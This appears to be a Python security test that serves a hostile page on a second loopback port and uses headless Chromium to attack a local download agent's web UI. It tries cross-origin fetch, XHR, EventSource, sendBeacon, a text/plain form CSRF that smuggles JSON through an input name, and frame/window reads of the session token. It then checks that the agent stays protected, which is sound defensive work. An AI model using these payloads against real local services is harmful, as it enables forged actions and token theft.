#!/usr/bin/env python3
"""A page of ANOTHER loopback port attacks the agent in the same headless Chromium in which the
agent's page is logged in, and the agent's page keeps working (WebDriver through drive_page.py's
Driver; Python's standard library only).

    attack_page.py --login URL --url FILE_URL --after-url FILE_URL --id NAME --log FILE --report FILE

In order: starts the attacker's server on 127.0.0.1:0 (it records every request line, header
and body it gets in --log); opens the login URL, checks the token left the address bar and the
page is live, adds the download --url as NAME-before through the form and sees it complete.
Then the attacker's page, once in a new tab beside the agent's page and once in the agent's own
tab (whose sessionStorage holds the token for the agent's origin), tries everything a page can:
fetch (CORS and no-cors, credentials "include"), XMLHttpRequest withCredentials, img, script,
EventSource withCredentials, a form post (text/plain JSON), sendBeacon, a frame and a window of
the agent's page whose storage it tries to read; and it reads its own cookies and storage. Each
outcome goes to --report as JSON ({"attackerPort": P, "runs": [[{name, outcome, detail}]]}).
Last, the agent's tab opens /ui/ without the fragment (the token from sessionStorage), is live
again and adds --after-url as NAME-after through the form, which completes. Exit 0 when the page did all that;
the test asserts on the report, the attacker's log and the agent.
"""
import argparse
import http.server
import json
import os
import shutil
import sys
import tempfile
import threading
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from drive_page import Driver, Failure, ROW, STATE, log  # noqa: E402

ATTACK = r"""<!doctype html>
<html><head><meta charset="utf-8"><title>another local page</title></head>
<body><p id="state">attacking</p>
<script>
"use strict";
const AGENT = "%(agent)s";
const results = [];
function note(name, outcome, detail) { results.push({ name, outcome, detail: String(detail || "").slice(0, 500) }); }
// A bounded wait for a callback-style outcome.
function within(ms, start) {
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve(["timeout", ""]), ms);
    start((outcome, detail) => { clearTimeout(timer); resolve([outcome, detail]); });
  });
}
const add = (id) => JSON.stringify({ id, url: "http://127.0.0.1:9/stolen", destination: "/tmp/fdl-attack-" + id });

async function tryFetch(name, path, options) {
  try {
    const response = await fetch(AGENT + path, Object.assign({ credentials: "include" }, options));
    if (response.type === "opaque") { note(name, "opaque", "status hidden"); return; }
    const text = await response.text();
    note(name, "read", response.status + " " + text);
  } catch (e) { note(name, "blocked", e); }
}

function tryXHR(name, method, path, body) {
  return within(20000, (done) => {
    const xhr = new XMLHttpRequest();
    xhr.open(method, AGENT + path);
    xhr.withCredentials = true;
    if (body) xhr.setRequestHeader("Content-Type", "text/plain");
    xhr.onload = () => done(xhr.status === 0 ? "blocked" : "read", xhr.status + " " + xhr.responseText);
    xhr.onerror = () => done("blocked", "status " + xhr.status);
    xhr.send(body || null);
  }).then(([outcome, detail]) => note(name, outcome, detail));
}

function tryElement(name, tag, attribute, url) {
  return within(20000, (done) => {
    const element = document.createElement(tag);
    element.onload = () => done("loaded", "");
    element.onerror = () => done("error", "");
    element[attribute] = url;
    document.body.appendChild(element);
  }).then(([outcome, detail]) => note(name, outcome === "loaded" ? "loaded (nothing readable)" : outcome, detail));
}

function tryEventSource(name, path) {
  return within(20000, (done) => {
    const source = new EventSource(AGENT + path, { withCredentials: true });
    source.onmessage = (e) => { source.close(); done("read", e.data); };
    source.addEventListener("ready", (e) => { source.close(); done("read", e.data); });
    source.onerror = () => { source.close(); done("error", "readyState " + source.readyState); };
  }).then(([outcome, detail]) => note(name, outcome, detail));
}

function tryForm(name) {
  return within(20000, (done) => {
    const frame = document.createElement("iframe");
    frame.name = "sink";
    document.body.appendChild(frame);
    const form = document.createElement("form");
    form.method = "POST";
    form.enctype = "text/plain";
    form.action = AGENT + "/v1/downloads";
    form.target = "sink";
    const input = document.createElement("input");
    input.name = '{"id":"attack-form","url":"http://127.0.0.1:9/stolen","x":"';
    input.value = '"}';
    form.appendChild(input);
    document.body.appendChild(form);
    frame.onload = () => {
      let detail = "";
      try { detail = frame.contentDocument ? "readable: " + frame.contentDocument.body.innerText : "no document"; }
      catch (e) { detail = "blocked: " + e; }
      done(detail.startsWith("readable: ") && detail.length > 10 ? "read" : "sent, unreadable", detail);
    };
    form.submit();
  }).then(([outcome, detail]) => note(name, outcome, detail));
}

function tryFrame(name) {
  return within(20000, (done) => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try { done("read", frame.contentWindow.sessionStorage.getItem("fdl-agent-token") + " " + frame.contentDocument.body.innerText); }
      catch (e) { done("blocked", e); }
    };
    frame.src = AGENT + "/ui/";
    document.body.appendChild(frame);
  }).then(([outcome, detail]) => note(name, outcome, detail));
}

async function tryWindow(name) {
  let opened = null;
  try { opened = window.open(AGENT + "/ui/", "_blank"); } catch (e) { note(name, "blocked", e); return; }
  if (!opened) { note(name, "blocked", "window.open gave nothing (pop-up blocked)"); return; }
  const [outcome, detail] = await within(20000, (done) => {
    const tick = () => {
      try {
        // Until the agent's page commits, the window is an about:blank of this page's own origin.
        if (opened.location.href === "about:blank") { setTimeout(tick, 100); return; }
        const value = opened.sessionStorage.getItem("fdl-agent-token");
        done("read", value + " " + opened.document.body.innerText);
      } catch (e) { done("blocked", e); }
    };
    tick();
  });
  try { opened.close(); } catch (e) { /* nothing */ }
  note(name, outcome, detail);
}

async function attack() {
  await tryFetch("fetch GET /v1/downloads (cors)", "/v1/downloads", {});
  await tryFetch("fetch GET /v1/events (cors)", "/v1/events", {});
  await tryFetch("fetch POST /v1/downloads JSON (preflight)", "/v1/downloads",
                 { method: "POST", headers: { "Content-Type": "application/json" }, body: add("attack-json") });
  await tryFetch("fetch PUT /v1/limit (preflight)", "/v1/limit",
                 { method: "PUT", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ bytesPerSecond: 1 }) });
  await tryFetch("fetch GET /v1/downloads/probe-fetch (no-cors)", "/v1/downloads/probe-fetch", { mode: "no-cors" });
  await tryFetch("fetch POST /v1/downloads text/plain (no-cors)", "/v1/downloads",
                 { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: add("attack-no-cors") });
  await tryFetch("fetch POST /v1/downloads/before/cancel (no-cors)", "/v1/downloads/" + encodeURIComponent(VICTIM) + "/cancel",
                 { method: "POST", mode: "no-cors" });
  await tryXHR("XHR GET /v1/downloads", "GET", "/v1/downloads");
  await tryXHR("XHR POST /v1/downloads text/plain", "POST", "/v1/downloads", add("attack-xhr"));
  await tryElement("img /v1/downloads/probe-img", "img", "src", AGENT + "/v1/downloads/probe-img");
  await tryElement("script /v1/downloads/probe-script", "script", "src", AGENT + "/v1/downloads/probe-script");
  await tryElement("img of the attacker's own server (carries its cookies)", "img", "src", location.origin + "/pixel");
  await tryEventSource("EventSource /v1/events withCredentials", "/v1/events");
  await tryForm("form POST text/plain /v1/downloads");
  try {
    const sent = navigator.sendBeacon(AGENT + "/v1/downloads", new Blob([add("attack-beacon")], { type: "text/plain" }));
    note("sendBeacon POST /v1/downloads", sent ? "sent, unreadable" : "blocked", "");
  } catch (e) { note("sendBeacon POST /v1/downloads", "blocked", e); }
  await tryFrame("frame of /ui/, its sessionStorage");
  await tryWindow("window of /ui/, its sessionStorage");
  let own = "";
  try { own = JSON.stringify({ cookie: document.cookie, local: Object.assign({}, localStorage),
                               session: Object.assign({}, sessionStorage), referrer: document.referrer, href: location.href }); }
  catch (e) { own = String(e); }
  note("this page's own cookies, storage, referrer, address", "read own", own);
}
const VICTIM = "%(victim)s";
attack().catch((e) => note("attack", "crashed", e)).finally(async () => {
  try { await fetch("/report", { method: "POST", body: JSON.stringify(results) }); } catch (e) { /* nothing */ }
  window.__attackResults = results;
  document.getElementById("state").textContent = "done";
});
</script></body></html>
"""


class AttackerServer(http.server.ThreadingHTTPServer):
    """Serves the attacker's page and records every request it gets, whole."""

    def __init__(self, agent, victim, log_path):
        self.page = (ATTACK % {"agent": agent, "victim": victim}).encode()
        self.log_file = open(log_path, "a", encoding="utf-8")
        self.lock = threading.Lock()
        super().__init__(("127.0.0.1", 0), AttackerHandler)

    def record(self, text):
        with self.lock:
            self.log_file.write(text + "\n")
            self.log_file.flush()


class AttackerHandler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, format, *args):
        pass

    def _serve(self):
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        self.server.record("%s\n%s\n%s\n" % (self.requestline, str(self.headers).strip(), body.decode(errors="replace")))
        path = urllib.parse.urlsplit(self.path).path
        if path == "/" and self.command == "GET":
            self._answer(200, "text/html; charset=utf-8", self.server.page)
        elif path == "/pixel":
            self._answer(200, "image/gif", base64_gif())
        else:
            self._answer(204 if path == "/report" else 404, "text/plain", b"")

    do_GET = do_POST = do_PUT = do_OPTIONS = do_HEAD = _serve

    def _answer(self, status, kind, body):
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)


def base64_gif():
    import base64
    return base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")


LIVE = 'return document.getElementById("connection").textContent === "live";'


def add_through_form(driver, url, name):
    """Adds `url` as `name` in the agent's page and waits until the page shows it completed."""
    driver.type("#urls", url)
    driver.type("#name", name)
    driver.click('#add button[type="submit"]')
    driver.wait("%s appears" % name, ROW, name)
    driver.wait("%s completed" % name, STATE, name, "completed", timeout=120)
    log("added %s through the page; it completed" % name)


def attack_from(driver, attacker_url):
    driver.go(attacker_url)
    results = driver.wait("the attacker's page is done", "return window.__attackResults || null;", timeout=180)
    for item in results:
        log("attack %-55s %s %s" % (item["name"], item["outcome"], item["detail"][:120]))
    return results


def run(arguments):
    agent = arguments.login.split("/ui/")[0]
    server = AttackerServer(agent, arguments.id + "-before", arguments.log)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    attacker_url = "http://127.0.0.1:%d/" % server.server_address[1]
    log("the attacker's page is " + attacker_url)
    profile = tempfile.mkdtemp(prefix="fdl-chromium-")
    driver = None
    report = {"attackerPort": server.server_address[1], "runs": []}
    try:
        driver = Driver(shutil.which("chromium") or "/usr/bin/chromium", shutil.which("chromedriver") or "/usr/bin/chromedriver", profile)
        driver.go(arguments.login)
        address = driver.s("/url")
        if "token" in address or not address.endswith("/ui/"):
            raise Failure("after the login the address is %s, not the page without the token" % address)
        driver.wait("the event stream is live", LIVE)
        add_through_form(driver, arguments.url, arguments.id + "-before")
        agent_tab = driver.s("/window")

        # The attacker in a tab of its own, the agent's page open beside it.
        tab = driver.s("/window/new", {"type": "tab"})["handle"]
        driver.s("/window", {"handle": tab})
        report["runs"].append(attack_from(driver, attacker_url))
        driver.s("/window", method="DELETE")
        driver.s("/window", {"handle": agent_tab})
        driver.wait("the agent's page is still live", LIVE)

        # The attacker in the agent's own tab (its sessionStorage holds the token for the agent's
        # origin), then back to the page without the fragment: logged in from sessionStorage.
        report["runs"].append(attack_from(driver, attacker_url))
        driver.go(agent + "/ui/")
        driver.wait("the page is live again from the tab's sessionStorage", LIVE)
        driver.wait("the page lists the download added before", ROW, arguments.id + "-before")
        add_through_form(driver, arguments.after_url, arguments.id + "-after")
        return 0
    except Failure as failure:
        log("FAILED: %s" % failure)
        return 1
    finally:
        with open(arguments.report, "w", encoding="utf-8") as file:
            json.dump(report, file)
        if driver:
            driver.close()
        server.shutdown()
        server.log_file.close()
        shutil.rmtree(profile, ignore_errors=True)


def main():
    parser = argparse.ArgumentParser()
    for name in ("login", "url", "after-url", "id", "log", "report"):
        parser.add_argument("--" + name, required=True)
    return run(parser.parse_args())


if __name__ == "__main__":
    sys.exit(main())
